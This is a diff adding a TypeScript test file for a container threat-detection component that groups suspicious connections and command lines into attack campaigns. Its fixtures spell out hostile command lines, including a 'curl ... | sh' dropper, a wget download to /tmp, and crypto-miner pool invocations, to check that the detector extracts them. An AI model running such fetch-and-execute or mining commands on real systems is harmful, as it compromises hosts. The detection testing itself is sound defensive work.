@@ -1,0 +1,68 @@
+import { factContext, factsFromFile } from '@tidewaiter/facts';
+import { observation, type ObservationSketch } from '@tidewaiter/testkit';
+
+import type { EventInputs } from '../events/event-view.js';
+import { FileWriters } from '../events/file-writers.js';
+import { ProcessTree } from '../events/process-tree.js';
+import { campaignJoins, campaignKeys } from './campaign-joins.js';
+
+const digest = `sha256:${'a'.repeat(64)}`;
+const known = factsFromFile({
+  images: { [digest]: { files: { '/usr/bin/curl': {} } } },
+  policy: { package_mirrors: ['203.0.113.80'], cluster_dns: ['203.0.113.53'] },
+});
+
+const inputs = (sketch: ObservationSketch): EventInputs => ({
+  observation: observation({ activity: 'connect', container: { id: 'c'.repeat(64) }, ...sketch }),
+  process: null,
+  tree: new ProcessTree(),
+  writers: new FileWriters(),
+  facts: factContext(known),
+});
+
+const peer = (destinationIp: string) => ({ network: { destinationIp, destinationPort: 3333 } });
+const inKnownImage = { container: { id: 'c'.repeat(64), imageDigest: digest } };
+
+describe('campaignJoins', () => {
+  it.each<[string, ObservationSketch, boolean]>([
+    ['a dropped program', { ...inKnownImage, process: { executable: '/opt/x' }, ...peer('199.247.27.41') }, true],
+    [
+      'a program in memory of an unknown image',
+      { process: { executable: '/dev/shm/.k' }, ...peer('199.247.27.41') },
+      true,
+    ],
+    [
+      'a program of the image',
+      { ...inKnownImage, process: { executable: '/usr/bin/curl' }, ...peer('199.247.27.41') },
+      false,
+    ],
+    ['a program of an unknown image', { process: { executable: '/app/server' }, ...peer('199.247.27.41') }, false],
+    ['an internal address', { process: { executable: '/dev/shm/.k' }, ...peer('10.96.0.1') }, false],
+    ['a metadata service', { process: { executable: '/dev/shm/.k' }, ...peer('169.254.169.254') }, false],
+    ['a package mirror', { process: { executable: '/dev/shm/.k' }, ...peer('203.0.113.80') }, false],
+    ['the DNS of the cluster', { process: { executable: '/dev/shm/.k' }, ...peer('203.0.113.53') }, false],
+  ])('joins by the destination of %s: %#', (_what, sketch, joins) => {
+    expect(campaignJoins(inputs(sketch)).includes('peer')).toBe(joins);
+  });
+});
+
+describe('campaignKeys', () => {
+  it.each<[string, Record<string, string>]>([
+    ['/tmp/x -o stratum+tcp://gulf.example.stream:10128 -u w', { pool: 'pool:gulf.example.stream' }],
+    ['/tmp/x -o 199.247.27.41:3333 -u w', { pool: 'pool:199.247.27.41' }],
+    ['/tmp/x --url=pool.example.com:443', { pool: 'pool:pool.example.com' }],
+    ['/usr/bin/gcc -o main.o -c main.c', {}],
+    ['/bin/sh -c "curl -s http://203.0.113.9/x.sh | sh"', { dropper: 'dropper:203.0.113.9' }],
+    ['/usr/bin/wget http://203.0.113.9:8080/a -O /tmp/a', { dropper: 'dropper:203.0.113.9' }],
+    ['/usr/bin/curl https://github.com/a/b', {}],
+    ['/usr/bin/curl http://10.0.0.8/a', {}],
+    ['/usr/bin/curl http://169.254.169.254/latest/meta-data', {}],
+    ['/usr/bin/curl http://203.0.113.9.example.com/a', {}],
+  ])('parses the campaign keys of %j', (commandLine, keys) => {
+    expect(campaignKeys(observation({ process: { commandLine } }))).toEqual(keys);
+  });
+
+  it('takes the address that a miner connects to as the pool that another event names', () => {
+    expect(campaignKeys(observation(peer('199.247.27.41')))).toEqual({ peer: 'pool:199.247.27.41' });
+  });
+});
